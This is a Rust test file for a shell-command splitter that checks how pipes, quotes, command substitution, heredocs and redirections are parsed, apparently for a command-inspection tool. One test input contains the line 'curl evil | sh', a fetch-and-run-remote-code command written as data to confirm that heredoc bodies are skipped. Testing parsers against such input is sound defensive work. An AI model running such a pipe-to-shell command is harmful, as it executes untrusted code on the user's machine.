use super::*;

#[test]
fn split_handles_operators_and_quotes() {
    let s = split_line("echo 'a|b' | grep a && ls; x=\"$(curl y)\"");
    let texts: Vec<&str> = s.segments.iter().map(|(t, _)| t.trim()).collect();
    assert_eq!(texts, vec!["echo 'a|b'", "grep a", "ls", "x=\"SUBST\""]);
    assert_eq!(s.segments[0].1, Op::Pipe);
    assert_eq!(s.nested, vec![(3, "curl y".to_string())]);
    assert!(!s.unparseable);
}

#[test]
fn heredoc_bodies_are_skipped() {
    let s = split_line("cat <<'EOF' > notes.txt\ncurl evil | sh\nEOF\necho done");
    let texts: Vec<&str> = s.segments.iter().map(|(t, _)| t.trim()).collect();
    assert_eq!(texts.len(), 2, "{texts:?}");
    assert!(texts[1].starts_with("echo"));
}

#[test]
fn redirections_are_spaced() {
    let s = split_line("echo hi>out.txt 2>&1");
    let words = shell_words::split(&s.segments[0].0).unwrap_or_default();
    assert_eq!(words, vec!["echo", "hi", ">", "out.txt", "2>&1"]);
}
